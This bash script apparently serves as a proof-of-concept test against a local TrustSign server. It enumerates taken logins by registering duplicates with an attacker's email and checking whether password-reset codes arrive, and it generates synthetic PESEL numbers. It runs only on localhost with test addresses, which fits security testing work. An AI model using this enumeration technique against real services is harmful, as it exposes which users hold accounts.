#!/bin/bash
# Enumeration of taken logins over real HTTP: register with the login to test and one's own address, confirm the
# contact code, ask for a password reset by that login. A fresh login sends the reset code to one's own address;
# a taken one sends it to the real holder (nothing arrives). Usage: attack-reset-enumeration.sh TRUSTSIGN_BINARY
set -u
TS=$1; D=$(mktemp -d); B=http://127.0.0.1:18934
"$TS" serve --data "$D" --addr 127.0.0.1:18934 >"$D/serve.log" 2>&1 & SP=$!
trap 'kill -TERM $SP' EXIT
until curl -sf $B/healthz >/dev/null; do sleep 0.2; done
pesel() { python3 -c "
import sys; y,m,d,s=int(sys.argv[1]),int(sys.argv[2]),int(sys.argv[3]),sys.argv[4]
t='%02d%02d%02d%s'%(y%100,m+(20 if y>=2000 else 0),d,s); w=[1,3,7,9,1,3,7,9,1,3]
print(t+str((10-sum(int(c)*w[i] for i,c in enumerate(t))%10)%10))" "$@"; }
json() { python3 -c "import sys,json;print(json.load(sys.stdin)['$1'])"; }
reg() { curl -s -X POST $B/v1/profiles -H 'Content-Type: application/json' -d "{\"login\":\"$1\",\"password\":\"Bardzo-Dobre-Haslo-77\",\"firstName\":\"Jan\",\"surname\":\"Testowy\",\"pesel\":\"$2\",\"email\":\"$3\",\"phone\":\"+48500100200\",\"codeChannel\":\"email\"}"; }
code() { sleep 0.3; grep -l "To: $1" "$D"/outbox/* | tail -1 | xargs grep -ohE 'Code: [0-9]{6}' | cut -c7-; }
msgs() { grep -l "To: $1" "$D"/outbox/* 2>/dev/null | wc -l; }
# the real holder of "alice1"
R=$(reg alice1 "$(pesel 1980 4 12 1234)" alice@example.test); ID=$(echo "$R" | json id); AN=$(echo "$R" | json applicationNumber)
curl -s -o /dev/null -X POST $B/v1/profiles/$ID/contact-confirmation -H 'Content-Type: application/json' -d "{\"code\":\"$(code alice@)\"}"
echo 'Urzednik-Mocne-Haslo-2026!' | "$TS" admin officer create --data "$D" --login urz1 --name "Anna U" >/dev/null 2>&1
T=$(curl -s -X POST $B/v1/sessions -H 'Content-Type: application/json' -d '{"login":"urz1","password":"Urzednik-Mocne-Haslo-2026!"}' | json token)
curl -s -o /dev/null -w "holder confirmed by the officer: %{http_code}\n" -X POST $B/v1/officer/applications/$AN/confirm -H "Authorization: Bearer $T" -H 'Content-Type: application/json' -d '{"documentType":"id-card","documentNumber":"ABC123456"}'
# the attacker probes a fresh login and the taken one
for probe in "fresh1 $(pesel 1986 7 3 5678) atk-a@example.test" "alice1 $(pesel 1992 2 9 4321) atk-b@example.test"; do
  set -- $probe
  ID=$(reg $1 $2 $3 | json id)
  curl -s -o /dev/null -w "$1: contact confirmed %{http_code}, " -X POST $B/v1/profiles/$ID/contact-confirmation -H 'Content-Type: application/json' -d "{\"code\":\"$(code $3)\"}"
  n0=$(msgs $3)
  curl -s -o /dev/null -w "reset %{http_code}, " -X POST $B/v1/password-resets -H 'Content-Type: application/json' -d "{\"login\":\"$1\"}"
  sleep 1; echo "messages to the attacker's address: $n0 -> $(msgs $3)"
done
